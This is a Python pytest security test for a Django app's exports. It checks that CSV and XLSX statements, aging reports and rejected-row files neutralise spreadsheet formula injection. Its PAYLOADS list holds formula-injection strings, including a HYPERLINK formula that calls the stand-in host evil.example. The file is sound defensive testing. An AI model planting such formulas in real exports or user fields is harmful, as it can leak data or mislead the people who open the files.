"""Formula injection: text a spreadsheet would run (=, +, -, @, tab, CR first; =HYPERLINK) in the fields every
export writes, and every CSV/XLSX export neutralises it (a leading apostrophe, recaudo.core.exports.safe_cell).

Exports: the statement (CSV, XLSX) and the aging by debtor (CSV, XLSX) on the web and on the command line, the
aging by obligation on the command line, and an import's rejected-rows CSV. PDF and HTML are not spreadsheets
(HTML is covered by test_xss.py). Each prefix goes into each field in turn (one round per prefix)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from recaudo.core.exports import FORMULA_PREFIXES

from .helpers import count, csv_cells
from .world import build_world

pytestmark = [pytest.mark.security, pytest.mark.django_db]

PAYLOADS = ('=HYPERLINK("http://evil.example/?{m}","ver")', "+{m}+1", "-{m}-1", "@SUM({m})", "\t={m}", "\r={m}")
FIELDS = (("portfolio", "Debtor", "name"), ("portfolio", "Debtor", "code"), ("portfolio", "Obligation", "number"),
          ("portfolio", "Obligation", "description"), ("portfolio", "Obligation", "external_ref"))


def dangerous(cell: str) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_PREFIXES)


def xlsx_problems(data: bytes, marker: str) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and marker in cell.value
                                             and dangerous(cell.value)):
                    bad.append(f"{ws.title}!{cell.coordinate}={cell.value!r}")
    return bad


def csv_problems(data: bytes, marker: str) -> list[str]:
    return [repr(c) for c in csv_cells(data) if marker in c and dangerous(c)]


def test_every_export_neutralises_formulas(tmp_path):
    from django.apps import apps

    world = build_world()
    a, users = world["A"], world["users"]
    client = Client()
    client.force_login(users["admin"])
    slug, debtor = a.portfolio.slug, a.debtor
    problems, checked = [], 0
    for round_, template in enumerate(PAYLOADS):
        for i, (app, model, field) in enumerate(FIELDS):
            Model = apps.get_model(app, model)
            for pk in Model.objects.filter(portfolio=a.portfolio).values_list("pk", flat=True):
                value = template.format(m=f"mk{round_}x{i}x{pk}")
                Model.objects.filter(pk=pk).update(**{field: value})
        marker = f"mk{round_}x"
        debtor.refresh_from_db()
        exports = {
            "statement.csv": client.get(reverse("statement", args=[slug, debtor.pk, "csv"])).content,
            "statement.xlsx": client.get(reverse("statement", args=[slug, debtor.pk, "xlsx"])).content,
            "aging.csv": client.get(reverse("aging", args=[slug]), {"by": "debtor", "format": "csv"}).content,
            "aging.xlsx": client.get(reverse("aging", args=[slug]), {"by": "debtor", "format": "xlsx"}).content,
        }
        for by in ("debtor", "obligation"):
            out = io.StringIO()
            call_command("aging", "--portfolio", slug, "--by", by, "--format", "csv", stdout=out)
            exports[f"recaudo aging --by {by} --format csv"] = out.getvalue().encode()
        out_file = tmp_path / f"st{round_}.csv"
        call_command("statement", "--portfolio", slug, f"--debtor={debtor.code}", "--format", "csv",
                     "--output", str(out_file), stdout=io.StringIO())
        exports["recaudo statement --format csv"] = out_file.read_bytes()
        for name, data in exports.items():
            checked += 1
            found = xlsx_problems(data, marker) if name.endswith("xlsx") else csv_problems(data, marker)
            if not found and marker not in (data.decode("utf-8-sig", errors="replace") if not name.endswith("xlsx")
                                            else "".join(_xlsx_text(data))):
                problems.append(f"{name} (prefix {template[:2]!r}): the payload is not in the export at all")
            if found:
                problems.append(f"{name} (prefix {template[:2]!r}): {found[:3]}")
    checked += _rejected_rows(a.portfolio, tmp_path, problems)
    count("exports searched for a live formula", checked)
    assert not problems, "\n".join(problems)


def _xlsx_text(data: bytes):
    from .helpers import xlsx_cells

    return xlsx_cells(data)


def _rejected_rows(portfolio, tmp_path, problems) -> int:
    from recaudo.imports.tests.helpers import run, write

    lines = ["number,debtor_code,debtor_name,issue_date,due_date,amount"]
    for n, template in enumerate(PAYLOADS):
        value = template.format(m=f"rj{n}").replace('"', '""')
        lines.append(f'R-{n},C{n},"{value}",01/01/2026,31/02/2026,100')  # an impossible date: rejected
    rejected = tmp_path / "rejected.csv"
    run(portfolio, "obligations", write(tmp_path, "\n".join(lines) + "\n"), skip_invalid=True,
        rejected_path=rejected)
    with rejected.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    bad = [c for c in cells if "rj" in c and dangerous(c)]
    if bad:
        problems.append(f"rejected rows CSV: {bad}")
    if sum("rj" in c for c in cells) < len(PAYLOADS):
        problems.append("rejected rows CSV: not every payload row is in it")
    return 1
